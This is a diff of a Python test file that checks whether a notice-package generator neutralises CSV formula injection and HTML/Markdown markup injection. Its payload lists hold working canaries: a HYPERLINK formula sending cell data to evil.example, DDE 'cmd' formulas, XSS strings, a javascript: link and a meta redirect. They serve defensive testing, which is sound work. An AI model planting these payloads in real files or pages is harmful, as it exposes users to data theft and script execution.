@@ -1,7 +1,7 @@
 """Attack 19: formula injection in CSV and markup injection in HTML and Markdown.
 
-What an attacker writes about themselves (or about somebody who will ask for it) is opened by others in a browser and in a
-spreadsheet. First each canary is shown to be dangerous as it is; then it is harmless in every file of the package.
+What an attacker writes about themselves (or about somebody who will ask for it) is opened by others in a browser and in
+a spreadsheet. First each canary is shown to be dangerous as it is; then it is harmless in every file of the package.
 """
 
 from __future__ import annotations
@@ -13,16 +13,16 @@ from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
-
 from tests.notice_kit import MAP, section, taakveld, written
+
 from waarborg.notice import tables
 from waarborg.notice.cells import safe
 from waarborg.notice.markdown import to_markdown
-from waarborg.notice.page import Bullets, Facts, Page, Para, Section, Table
 from waarborg.notice.package import Package, write_package
+from waarborg.notice.page import Bullets, Facts, Page, Para, Section, Table
 
 FORMULAS = [
-    "=HYPERLINK(\"https://evil.example?\"&A1,\"klik\")",
+    '=HYPERLINK("https://evil.example?"&A1,"klik")',
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)",
@@ -34,7 +34,7 @@ FORMULAS = [
     "\ufeff=1+1",
     "＝1+1",
     "＋1",
-    "\"=1+1",
+    '"=1+1',
     "'=1+1",
     "|calc",
     "%0A=1+1",
@@ -43,12 +43,12 @@ MARKUP = [
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
     "</td></tr></table><h1>overgenomen</h1>",
-    "\"><svg onload=alert(1)>",
+    '"><svg onload=alert(1)>',
     "' onmouseover='alert(1)",
     "<!--",
     "</style><script>alert(1)</script>",
     "&lt;script&gt;",
-    "<a href=\"javascript:alert(1)\">klik</a>",
+    '<a href="javascript:alert(1)">klik</a>',
     "<meta http-equiv=refresh content='0;url=https://evil.example'>",
     "\u202eexe.fdp",
     "\x00<b>nul</b>",
@@ -73,16 +73,47 @@ class Seen(HTMLParser):
         self.text.append(data)
 
 
-KNOWN = set(
-    "html head meta title style body a div header h1 h2 h3 h4 p span nav ol li main section ul dl dt dd table caption "
-    "thead tbody tr th td".split()
-)
+KNOWN = {
+    "html",
+    "head",
+    "meta",
+    "title",
+    "style",
+    "body",
+    "a",
+    "div",
+    "header",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "p",
+    "span",
+    "nav",
+    "ol",
+    "li",
+    "main",
+    "section",
+    "ul",
+    "dl",
+    "dt",
+    "dd",
+    "table",
+    "caption",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+}
 
 
 def make(folder: Path, values: list[str]) -> Package:
     rows = [[(value,) for value in values]]
     wide = (section("app.member", "email", "full_name"), [[(value, value) for value in values]])
-    text = written((section("app.comment", "body"), rows * 2), wide, (section("app.rest", "question"), [[(values[0],)]]))
+    text = written(
+        (section("app.comment", "body"), rows * 2), wide, (section("app.rest", "question"), [[(values[0],)]])
+    )
     (folder / "answer.json").write_text(text, encoding="utf-8")
     return write_package(folder / "answer.json", folder / "package", taakveld(), MAP, "nl")
 
@@ -143,10 +174,16 @@ def test_attack_19_without_escaping_it_would(tmp_path: Path, monkeypatch: pytest
     assert {"img", "svg"} & seen.tags
 
 
-@pytest.mark.parametrize("value", [*MARKUP, "[klik](javascript:alert(1))", "# kop", "- punt", "1. een", "| a | b |", "`code`", "***"])
+@pytest.mark.parametrize(
+    "value", [*MARKUP, "[klik](javascript:alert(1))", "# kop", "- punt", "1. een", "| a | b |", "`code`", "***"]
+)
 def test_attack_19_markdown_shows_what_was_written(value: str) -> None:
     table = Table("t", ("k",), ((value,),))
-    page = Page("nl", value, (Para(value), Bullets((value,)), Facts(((value, (value,)),)), table, Section(value, (Para(value),))))
+    page = Page(
+        "nl",
+        value,
+        (Para(value), Bullets((value,)), Facts(((value, (value,)),)), table, Section(value, (Para(value),))),
+    )
     text = to_markdown(page)
     bare = re.sub(r"\\.", "", text)
     assert "<" not in bare
